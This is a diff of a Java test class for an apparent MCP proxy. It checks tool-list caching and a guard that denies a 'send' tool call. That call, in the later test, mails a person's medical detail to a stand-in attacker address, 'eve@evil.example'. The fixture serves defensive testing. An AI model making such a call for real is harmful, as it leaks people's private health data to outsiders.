@@ -73,7 +73,7 @@ class LineTest {
         CompletionStage<Step> first = mail.begin(call(1, "wipe", "{}"));
         CompletionStage<Step> second = mail.begin(call(2, "wipe", "{}"));
         assertFalse(first.toCompletableFuture().isDone());
-        assertEquals(1, mail.asked, "two calls wait for one list");
+        assertEquals(1, mail.asked.get(), "two calls wait for one list");
         JsonNode own = json(mail.got.get(0));
         assertEquals("tools/list", own.path("method").asString(""));
         assertInstanceOf(
@@ -83,10 +83,10 @@ class LineTest {
         passed(PlayedLine.await(second));
         mail.answers = true;
         passed(mail.client(call(3, "wipe", "{}")));
-        assertEquals(1, mail.asked, "known tools are not asked for again");
+        assertEquals(1, mail.asked.get(), "known tools are not asked for again");
         passed(mail.server("{'jsonrpc':'2.0','method':'notifications/tools/list_changed'}"));
         passed(mail.client(call(4, "wipe", "{}")));
-        assertEquals(2, mail.asked, "changed tools are");
+        assertEquals(2, mail.asked.get(), "changed tools are");
     }
 
     @Test
@@ -420,11 +420,12 @@ class LineTest {
                 "'_meta':{'io.modelcontextprotocol/protocolVersion':'2026-07-28','io.modelcontextprotocol/clientCapabilities':{}}";
         String found = passed(mail.client(request(1, "server/discover", "{" + meta + "}")));
         assertTrue(found.contains("\"io.modelcontextprotocol/clientCapabilities\":{\"extensions\":" + BOTH), found);
-        replied(mail.client(request(
+        JsonNode denied = replied(mail.client(request(
                 2,
                 "tools/call",
                 "{'name':'send','arguments':{'to':'eve@evil.example','body':'Anna Weber has a broken arm'}," + meta
                         + "}")));
+        assertEquals("complete", denied.at("/result/resultType").asString(""));
         assertTrue(
                 mail.got.get(0).contains("\"io.modelcontextprotocol/protocolVersion\":\"2026-07-28\""),
                 "sluice's own request says what requests of this revision must");
